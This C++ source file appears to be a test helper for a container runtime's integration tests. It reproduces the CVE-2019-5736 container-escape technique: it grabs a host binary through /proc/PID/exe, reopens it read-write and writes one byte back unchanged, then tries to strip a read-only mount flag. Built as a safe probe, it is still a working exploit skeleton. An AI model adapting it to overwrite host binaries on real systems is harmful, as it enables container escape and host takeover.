// cove-exe-grab: the CVE-2019-5736 attack, run as root inside a privileged container by the
// integration tests (tests/integration/privileged_test.cpp). Static, like cove-probe.
//   cove-exe-grab MATCH SECONDS OUTDIR
// Scans /proc for a process whose executable's path contains MATCH (a host tool entering the
// container), keeps an O_PATH fd to its /proc/PID/exe and creates OUTDIR/caught. Once no
// process runs that file any more (ETXTBSY ends) it reopens the fd read-write and writes the
// file's first byte back unchanged (proof of write access without damage); then it tries to
// unwrap a read-only mount under the file (a clone of the mount with its read-only flag
// cleared, reopened read-write), and writes one line to OUTDIR/result:
// `exe=LINK reopen=ok|errno N write=ok|errno N unwrap=ok|errno N`, or `none` when nothing
// matched within SECONDS. Refuses to run outside a container (initial PID namespace).
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr ino_t kInitPidNs = 0xEFFFFFFCU;

double now() {
  struct timespec ts;
  ::clock_gettime(CLOCK_MONOTONIC, &ts);
  return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

std::string link_of(int fd) {
  char buf[4096];
  std::string p = "/proc/self/fd/" + std::to_string(fd);
  ssize_t n = ::readlink(p.c_str(), buf, sizeof buf - 1);
  return n > 0 ? std::string(buf, size_t(n)) : std::string();
}

// One pass over /proc: an O_PATH fd to a matching executable, or -1.
int scan(const char* match, std::string& link) {
  DIR* d = ::opendir("/proc");
  if (!d) return -1;
  int found = -1;
  pid_t self = ::getpid();
  while (struct dirent* e = ::readdir(d)) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9' || std::atoi(e->d_name) == self) continue;
    std::string p = std::string("/proc/") + e->d_name + "/exe";
    int fd = ::open(p.c_str(), O_PATH | O_CLOEXEC);
    if (fd < 0) continue;
    link = link_of(fd);
    if (link.find(match) != std::string::npos) {
      found = fd;
      break;
    }
    ::close(fd);
  }
  ::closedir(d);
  return found;
}

void write_line(const std::string& file, const std::string& text) {
  if (FILE* f = std::fopen(file.c_str(), "w")) {
    std::fprintf(f, "%s\n", text.c_str());
    std::fclose(f);
  }
}

std::string errno_text(int e) { return "errno " + std::to_string(e); }

// A clone of the mount under `fd`'s file with its read-only flag cleared, the file reopened
// read-write through it: "ok", or the errno of the step that failed.
std::string unwrap(int fd) {
  int tree = int(::syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH));
  if (tree < 0) return errno_text(errno);
  struct mount_attr attr = {};
  attr.attr_clr = MOUNT_ATTR_RDONLY;
  int w = -1;
  if (::syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0)
    w = ::open(("/proc/self/fd/" + std::to_string(tree)).c_str(), O_RDWR | O_CLOEXEC);
  int err = errno;
  ::close(tree);
  if (w < 0) return errno_text(err);
  ::close(w);
  return "ok";
}

}  // namespace

int main(int argc, char** argv) {
  struct stat st;
  if (::stat("/proc/self/ns/pid", &st) < 0 || st.st_ino == kInitPidNs) {
    std::fprintf(stderr, "cove-exe-grab: refusing to run outside a container\n");
    return 2;
  }
  if (argc != 4) {
    std::fprintf(stderr, "usage: cove-exe-grab MATCH SECONDS OUTDIR\n");
    return 2;
  }
  const char* match = argv[1];
  double deadline = now() + std::atof(argv[2]);
  std::string out = argv[3];
  std::string link;
  int fd = -1;
  while (fd < 0 && now() < deadline) fd = scan(match, link);
  if (fd < 0) {
    write_line(out + "/result", "none");
    return 0;
  }
  write_line(out + "/caught", link);
  std::string self_fd = "/proc/self/fd/" + std::to_string(fd);
  int wfd = -1;
  int err = ETXTBSY;
  while (wfd < 0 && err == ETXTBSY && now() < deadline) {
    wfd = ::open(self_fd.c_str(), O_RDWR | O_CLOEXEC);
    err = wfd < 0 ? errno : 0;
    if (wfd < 0 && err == ETXTBSY) ::usleep(5000);
  }
  std::string result = "exe=" + link + " reopen=" + (wfd < 0 ? errno_text(err) : "ok");
  if (wfd >= 0) {
    unsigned char c = 0;
    ssize_t n = ::pread(wfd, &c, 1, 0);
    if (n == 1) n = ::pwrite(wfd, &c, 1, 0);
    result += " write=" + (n == 1 ? std::string("ok") : errno_text(n < 0 ? errno : EIO));
  }
  result += " unwrap=" + unwrap(fd);
  write_line(out + "/result", result);
  return 0;
}
